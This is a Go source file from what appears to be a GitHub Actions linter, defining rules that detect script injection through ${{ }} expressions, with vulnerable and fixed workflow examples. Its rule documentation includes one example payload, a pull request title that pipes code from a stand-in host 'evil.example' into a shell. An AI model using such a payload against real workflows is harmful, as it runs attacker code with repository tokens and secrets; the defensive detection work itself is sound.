package actions

import (
	"fmt"

	"github.com/infralint/infralint/internal/actions"
	"github.com/infralint/infralint/internal/lint"
)

// TemplateInjection reports values that outsiders choose in scripts.
var TemplateInjection = &actions.Analyzer{
	Rule: lint.Rule{
		ID:       "gha-template-injection",
		Title:    "script is built from text that an attacker can choose",
		Severity: lint.Error,
		Doc: `
GitHub puts the value of ` + "`${{ … }}`" + ` into the script before any shell
sees it. A pull request with the title ` + "`\"; curl evil.example/x | sh; \"`" + ` is
then code that runs with the job's token and secrets, and no quoting in the script
helps.

Reported are the values that anybody can choose by opening an issue, a pull
request or a discussion, or commenting on one, also where they take a detour:
through ` + "`env`" + `, the outputs of a step or a job, the matrix, or the inputs
of a reusable workflow. The inputs of a reusable workflow that nothing in this
repository calls are reported too: its callers may pass anything.

Give the value to the script as a variable, which the shell does not run:

` + "```yaml" + `
- run: echo "$TITLE"
  env:
    TITLE: ${{ github.event.pull_request.title }}
` + "```" + `

` + "`${{ env.TITLE }}`" + ` in the script would be no better than before.
`,
		Bad: `
-- .github/workflows/greet.yml --
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue ${{ github.event.issue.title }}"
`,
		Good: `
-- .github/workflows/greet.yml --
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue $TITLE"
        env:
          TITLE: ${{ github.event.issue.title }}
`,
		Tags:  []string{"security"},
		Peers: []string{"zizmor:template-injection", "poutine:injection", "actionlint:expression", "checkov:CKV_GHA_2"},
		Refs: []string{
			"https://docs.github.com/en/actions/reference/security/secure-use#understanding-the-risk-of-script-injections",
			"https://securitylab.github.com/resources/github-actions-untrusted-input/",
		},
		Since: "0.1.0",
	},
	Run: func(pass *actions.Pass) error {
		expansions(&pass.Unit.Source, func(e *actions.Expr, v actions.Value) {
			if v.Origin >= actions.Caller {
				pass.Reportf(pass.Unit.Part(e.In, v.Start, v.End), "%s", injected(e, v))
			}
		})
		return nil
	},
}

// TemplateExpansion reports what TemplateInjection leaves out.
var TemplateExpansion = &actions.Analyzer{
	Rule: lint.Rule{
		ID:       "gha-template-expansion",
		Title:    "script is built from text that is not fixed",
		Severity: lint.Warning,
		Doc: `
A value that people with write access choose, such as the name of a branch or an
input of a manual run, or the output of a program, becomes part of a script.
That is no way in for outsiders, but a quote or a dollar sign in the value breaks the
script, and the day when the value comes from elsewhere nobody looks here.
Where outsiders do choose the value, gha-template-injection reports it.

Give the value to the script as an environment variable. This rule is off unless the
configuration turns it on.
`,
		Bad: `
-- .github/workflows/release.yml --
on: workflow_dispatch
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - run: make release BRANCH="${{ github.ref_name }}"
`,
		Good: `
-- .github/workflows/release.yml --
on: workflow_dispatch
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - run: make release BRANCH="$GITHUB_REF_NAME"
`,
		Tags:  []string{"security", "reliability"},
		Peers: []string{"zizmor:template-injection"},
		Since: "0.1.0",
		Off:   true,
	},
	Run: func(pass *actions.Pass) error {
		expansions(&pass.Unit.Source, func(e *actions.Expr, v actions.Value) {
			if v.Origin == actions.Chosen {
				pass.Reportf(pass.Unit.Part(e.In, v.Start, v.End), "%q is put into the script as it is; pass it as an environment variable", v.Path)
			}
		})
		return nil
	},
}

// expansions calls f for each value that is put into a script.
func expansions(t *actions.Source, f func(*actions.Expr, actions.Value)) {
	for _, in := range t.Steps() {
		for _, script := range actions.Scripts(in.Step) {
			for _, e := range t.Exprs(script) {
				for _, v := range t.Values(in, e) {
					f(e, v)
				}
			}
		}
	}
}

// injected says what is wrong, in the words of actionlint where it says so too.
func injected(e *actions.Expr, v actions.Value) string {
	if e.Node != nil {
		for _, err := range actions.Untrusted(e.Node) {
			if e.Start+err.Offset == v.Start {
				return err.Message
			}
		}
	}
	switch {
	case v.Origin == actions.Caller:
		return fmt.Sprintf("%q, which the caller chooses, becomes part of the script; pass it as an environment variable", v.Path)
	case v.From != v.Path:
		return fmt.Sprintf("%q holds %q, which an attacker can choose, and becomes part of the script; pass it as an environment variable", v.Path, v.From)
	}
	return fmt.Sprintf("%q, which an attacker can choose, becomes part of the script; pass it as an environment variable", v.Path)
}
